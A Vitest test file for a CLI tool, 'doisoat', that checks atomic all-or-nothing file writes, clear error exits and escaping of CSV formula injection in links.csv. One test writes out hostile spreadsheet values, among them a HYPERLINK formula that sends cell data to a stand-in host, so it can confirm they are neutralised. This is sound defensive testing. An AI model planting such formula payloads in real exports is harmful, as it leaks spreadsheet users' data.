// Files the CLI writes: whole or not at all, a failed write is a non-zero exit with a clear
// message, and links.csv never hands a spreadsheet a formula.
import { spawnSync } from 'node:child_process'
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join, resolve } from 'node:path'
import { beforeAll, describe, expect, it } from 'vitest'
import { AppError } from '../../src/shared/errors'
import { writeFileAtomic, writeStreamAtomic } from '../../src/backend/files/write-atomic'
import { writeSample } from '../../src/backend/sample/write-sample'
import { main } from '../../src/cli/main'
import { tempDir } from '../helpers/tmp'

const BIN = resolve(__dirname, '../../bin/doisoat.cjs')
const dir = tempDir('doisoat-outputs-')
const population = join(dir, 'population.csv')
const registry = join(dir, 'registry.csv')

/** The real command in its own process: what a shell script sees (exit code, stderr). */
function doisoat(...args: string[]) {
  const r = spawnSync(process.execPath, [BIN, ...args, '--lang', 'en'], {
    encoding: 'utf8',
    env: { ...process.env, DOISOAT_PASSPHRASE: 'outputs test passphrase' },
    timeout: 120_000
  })
  return { code: r.status, out: r.stdout, err: r.stderr }
}

const linkTo = (out: string) =>
  doisoat('link', '--registry', registry, '--population', population, '--out', out)

beforeAll(async () => {
  // 400 register rows: links.csv is about 20 KiB, more than a write stream buffers at once.
  await writeSample({ outDir: dir, population: 2000, registry: 400, seed: 4, legacy: false })
}, 60_000)

describe('doisoat link --out', () => {
  it('writes the whole file and exits 0, leaving no temporary file', () => {
    const out = join(dir, 'ok', 'links.csv')
    mkdirSync(join(dir, 'ok'))
    const r = linkTo(out)
    expect(r.code, r.err).toBe(0)
    const text = readFileSync(out, 'utf8')
    expect(text.length).toBeGreaterThan(16 * 1024)
    expect(text.trim().split('\n')).toHaveLength(401)
    expect(readdirSync(join(dir, 'ok'))).toEqual(['links.csv'])
  }, 120_000)

  it('in a folder that does not exist: exit 1, says which folder, writes nothing', () => {
    const r = linkTo(join(dir, 'missing', 'links.csv'))
    expect(r.code).toBe(1)
    expect(r.err).toContain(`the folder "${join(dir, 'missing')}" does not exist`)
    expect(existsSync(join(dir, 'missing'))).toBe(false)
  }, 120_000)

  it('onto a folder: exit 1 with a message, the folder untouched', () => {
    mkdirSync(join(dir, 'a-folder'))
    const r = linkTo(join(dir, 'a-folder'))
    expect(r.code).toBe(1)
    expect(r.err).toContain('is a folder, not a file')
    expect(readdirSync(join(dir, 'a-folder'))).toEqual([])
  }, 120_000)

  it('a disk that fills up mid-way (/dev/full): exit 1, "disk filled up"', () => {
    const r = linkTo('/dev/full')
    expect(r.code).toBe(1)
    expect(r.err).toContain('The disk filled up')
  }, 120_000)
})

describe('the process around a command', () => {
  it('exits 1 with a message when main() never settles, instead of a silent 0', () => {
    const r = spawnSync(
      process.execPath,
      [
        '-e',
        "require('tsx/cjs'); require('./src/cli/run.ts').runCli(() => new Promise(() => {}), ['--lang', 'en'])"
      ],
      { cwd: resolve(__dirname, '../..'), encoding: 'utf8', timeout: 60_000 }
    )
    expect(r.status).toBe(1)
    expect(r.stderr).toContain('stopped before finishing its work')
  }, 60_000)
})

describe('writing a file all or nothing', () => {
  it('a source that fails mid-way leaves the older file as it was and no temporary file', async () => {
    const folder = join(dir, 'atomic')
    mkdirSync(folder)
    const target = join(folder, 'out.csv')
    writeFileSync(target, 'the previous, complete file\n')
    function* failing() {
      for (let i = 0; i < 100; i++) yield 'x'.repeat(1024) + '\n'
      throw new Error('the database went away')
    }
    await expect(writeStreamAtomic(target, failing())).rejects.toBeInstanceOf(AppError)
    expect(readFileSync(target, 'utf8')).toBe('the previous, complete file\n')
    expect(readdirSync(folder)).toEqual(['out.csv'])
    await writeFileAtomic(target, 'new\n')
    expect(readFileSync(target, 'utf8')).toBe('new\n')
    expect(readdirSync(folder)).toEqual(['out.csv'])
    // A folder that went away between the check and the write: the same clear refusal.
    await expect(
      writeStreamAtomic(join(folder, 'gone', 'out.csv'), ['x'.repeat(20_000)])
    ).rejects.toMatchObject({ code: 'out_folder_missing' })
    expect(readdirSync(folder)).toEqual(['out.csv'])
  })

  it('report, package and sample outputs fail clearly before any work when the folder is missing', async () => {
    const err: string[] = []
    const io = { out: () => undefined, err: (l: string) => err.push(l) }
    const missing = join(dir, 'nowhere')
    const db = join(dir, 'none.db')
    expect(
      await main(
        ['report', '--db', db, '--batch', '1', '--out', join(missing, 'r.pdf'), '--lang', 'en'],
        io
      )
    ).toBe(1)
    expect(
      await main(
        ['package', 'export', '--db', db, '--user', 'u', '--out', join(missing, 'p.json')],
        io
      )
    ).toBe(1)
    expect(err.join('\n')).toContain(`the folder "${missing}" does not exist`)
    // A sample into a "folder" that is a file.
    writeFileSync(join(dir, 'plain-file'), '')
    err.length = 0
    expect(
      await main(['sample', '--out', join(dir, 'plain-file', 'sub'), '--lang', 'en'], io)
    ).toBe(1)
    expect(err.join('\n')).toMatch(/does not exist|Cannot write/)
  })
})

describe('links.csv and spreadsheets', () => {
  it('keys that look like formulas are written as text, never as a formula', async () => {
    const folder = join(dir, 'formula')
    mkdirSync(folder)
    // Every national key and register key turned hostile: = + - @ at the start.
    const hostile = ['=HYPERLINK("http://example.invalid/?"&A1,"x")', '+1+1', '-2+3', '@SUM(1)']
    const rewrite = (file: string, keyColumn: number, out: string) => {
      const lines = readFileSync(file, 'utf8').split(/\r?\n/)
      const body = lines.slice(1).map((l, i) => {
        if (l === '') return l
        const cells = l.split(',')
        const key = `${hostile[i % hostile.length]}${cells[keyColumn]}`
        cells[keyColumn] = `"${key.replace(/"/g, '""')}"`
        return cells.join(',')
      })
      writeFileSync(out, [lines[0], ...body].join('\n'))
    }
    rewrite(population, 0, join(folder, 'population.csv'))
    rewrite(registry, 1, join(folder, 'registry.csv'))
    const out = join(folder, 'links.csv')
    const code = await main(
      [
        'link',
        '--registry',
        join(folder, 'registry.csv'),
        '--population',
        join(folder, 'population.csv'),
        '--out',
        out
      ],
      { out: () => undefined, err: () => undefined }
    )
    expect(code).toBe(0)
    const rows = readFileSync(out, 'utf8')
      .trim()
      .split('\n')
      .slice(1)
      .map((l) => l.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((c) => c.replace(/,$/, '')))
    expect(rows).toHaveLength(400)
    let linked = 0
    for (const [registryKey, populationKey] of rows) {
      const cells = [registryKey!, populationKey!].map((c) =>
        c.startsWith('"') ? c.slice(1, -1).replace(/""/g, '"') : c
      )
      for (const c of cells) expect(c).not.toMatch(/^[=+\-@]/)
      expect(cells[0]).toMatch(/^'[=+\-@]/)
      if (cells[1] !== '') {
        linked++
        expect(cells[1]).toMatch(/^'[=+\-@]/)
      }
    }
    expect(linked).toBeGreaterThan(300)
  }, 120_000)
})
